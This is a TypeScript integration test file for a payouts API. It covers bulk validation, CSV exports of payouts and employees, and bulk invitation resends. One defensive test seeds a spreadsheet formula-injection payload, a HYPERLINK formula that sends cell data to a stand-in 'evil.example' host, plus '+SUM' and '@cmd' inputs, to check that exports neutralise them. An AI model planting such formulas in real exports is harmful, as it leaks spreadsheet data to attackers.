/**
 * The dashboard's bulk work: POST /v2/payouts/validate/ (a dry run of the bulk create: the same errors,
 * nothing written), the CSV exports of the filtered Payout and Employee lists (every matching row, not one
 * page), and the bulk resend of invitations (the once-a-day rule per Employee, the skipped ones reported).
 */
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { callerFor, integrationBody, startTestApp, type TestApp } from "../support/test-app";

let app: TestApp;
let key: string;
let accountPk: string;

const as = (integration: string) => ({ key, headers: { "Integration-ID": integration } });
const client = (integration: string) => callerFor(app, { via: "session", accountPk, environment: "demo", role: "client", userId: "u" }, integration);

async function post(path: string, integration: string, body: unknown, status = 201) {
  const res = await app.json(path, { method: "POST", ...as(integration), body });
  expect(res.status, JSON.stringify(res.body)).toBe(status);
  return res;
}

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;

beforeAll(async () => {
  app = await startTestApp();
  ({ key, accountPk } = await app.newKey("demo"));
  for (const id of ["bulk-a", "bulk-b"]) {
    expect((await app.json("/v2/integrations/", { method: "POST", key, body: integrationBody({ id }) })).status).toBe(201);
  }
  for (const [integration, id] of [
    ["bulk-a", "ann"],
    ["bulk-a", "axel"],
    ["bulk-b", "bea"],
  ]) {
    await post("/v2/employees/", integration, { id, name: `Person ${id}`, email: `${id}@example.se`, country: "SWE" });
  }
  // More than the API's largest page (100), so an export that stopped at one page would show.
  await post(
    "/v2/payouts/",
    "bulk-a",
    Array.from({ length: 120 }, (_, i) => ({ employee: "ann", amount: "10.50", currency: "SEK", description: `Shift, "day" ${i}` })),
  );
  await post("/v2/payouts/", "bulk-a", { employee: "axel", amount: "1500.50", currency: "SEK", description: "Catering" });
  await post("/v2/payouts/", "bulk-b", { employee: "bea", amount: "99.00", currency: "SEK", description: "Other Integration" });
});
afterAll(() => app?.close());

describe("POST /v2/payouts/validate/", () => {
  const good = (i: number) => ({ employee: "ann", amount: "100.00", currency: "SEK", description: `Row ${i}` });

  it("answers one entry per item, {} when valid, the bulk create's errors otherwise, and writes nothing", async () => {
    const items = [good(0), { ...good(1), employee: "nobody" }, { ...good(2), amount: "abc" }, good(3)];
    const before = await client("bulk-a").payouts.totals({});
    const res = await post("/v2/payouts/validate/", "bulk-a", items, 200);
    expect(res.body).toEqual([{}, { employee: [expect.any(String)] }, { amount: [expect.any(String)] }, {}]);
    // The same errors the create answers with, at the same indexes.
    const created = await post("/v2/payouts/", "bulk-a", items, 400);
    expect(created.body).toEqual(res.body);
    expect(await client("bulk-a").payouts.totals({})).toEqual(before);
  });

  it("creates no inline Employee while checking", async () => {
    const inline = { ...good(0), employee: { id: "new-one", name: "New One", email: "new@example.se", country: "SWE" } };
    expect((await post("/v2/payouts/validate/", "bulk-a", [inline], 200)).body).toEqual([{}]);
    expect((await app.json("/v2/employees/new-one/", { ...as("bulk-a") })).status).toBe(404);
  });

  it("refuses an empty batch in the DRF shape", async () => {
    const res = await post("/v2/payouts/validate/", "bulk-a", [], 400);
    expect(res.body).toHaveProperty("non_field_errors");
  });

  it("is the dashboard's procedure too, scoped to the Integration", async () => {
    // Employee "bea" belongs to the other Integration: not found from this one.
    const errors = await client("bulk-a").payouts.validate([{ ...good(0), employee: "bea" }]);
    expect(errors[0]).toHaveProperty("employee");
    expect(await client("bulk-b").payouts.validate([{ ...good(0), employee: "bea" }])).toEqual([{}]);
  });
});

describe("CSV exports", () => {
  it("exports every Payout the filters match, across pages, in the API's values", async () => {
    const all = await client("bulk-a").payouts.export({});
    const rows = parse(all.csv);
    expect(all.count).toBe(121);
    expect(rows).toHaveLength(121);
    expect(rows.map((r) => r.description)).toContain('Shift, "day" 7');
    expect(rows.find((r) => r.employee === "axel")).toMatchObject({ amount: "1500.50", currency: "SEK", employee_name: "Person axel" });
    expect(rows.some((r) => r.employee === "bea")).toBe(false);

    const searched = parse((await client("bulk-a").payouts.export({ search: "catering" })).csv);
    expect(searched.map((r) => r.description)).toEqual(["Catering"]);
  });

  it("exports the filtered Employees of the Integration only", async () => {
    const rows = parse((await client("bulk-a").employees.export({})).csv);
    expect(rows.map((r) => r.id).sort()).toEqual(["ann", "axel"]);
    expect(Object.keys(rows[0])).not.toContain("invitation_code");
    const searched = parse((await client("bulk-a").employees.export({ search: "axel" })).csv);
    expect(searched.map((r) => r.email)).toEqual(["axel@example.se"]);
  });
});

describe("CSV exports neutralise formulas", () => {
  it("prefixes formula-looking names and descriptions with a quote in both exports, and keeps amounts as they are", async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await post("/v2/employees/", "bulk-b", { id: "eve", name, email: "eve@example.se", country: "SWE" });
    await post("/v2/payouts/", "bulk-b", { employee: "eve", amount: "12.50", currency: "SEK", description: "+SUM(1,2)" });
    await post("/v2/payouts/", "bulk-b", { employee: "eve", amount: "1.00", currency: "SEK", description: "@cmd" });

    const employees = parse((await client("bulk-b").employees.export({})).csv);
    expect(employees.find((r) => r.id === "eve")?.name).toBe(`'${name}`);
    const payouts = parse((await client("bulk-b").payouts.export({ search: "eve" })).csv);
    expect(payouts.map((r) => r.description).sort()).toEqual(["'+SUM(1,2)", "'@cmd"]);
    expect(payouts.every((r) => r.employee_name === `'${name}`)).toBe(true);
    expect(payouts.map((r) => r.amount).sort()).toEqual(["1.00", "12.50"]);
  });
});

describe("employees.resendMany", () => {
  it("resends what the once-a-day rule allows and reports the skipped ones with the time a resend is allowed", async () => {
    const first = await client("bulk-a").employees.resendMany({ employee_ids: ["ann", "bea"] });
    expect(first.sent).toEqual(["ann"]);
    expect(first.skipped).toEqual([{ id: "bea", reason: "not_found", retry_at: null }]);

    const second = await client("bulk-a").employees.resendMany({ employee_ids: ["ann", "axel"] });
    expect(second.sent).toEqual(["axel"]);
    expect(second.skipped).toHaveLength(1);
    const [skipped] = second.skipped;
    expect(skipped).toMatchObject({ id: "ann", reason: "too_soon" });
    const wait = new Date(skipped.retry_at ?? "").getTime() - Date.now();
    expect(wait).toBeGreaterThan(23 * 3600_000);
    expect(wait).toBeLessThanOrEqual(24 * 3600_000);
  });
});
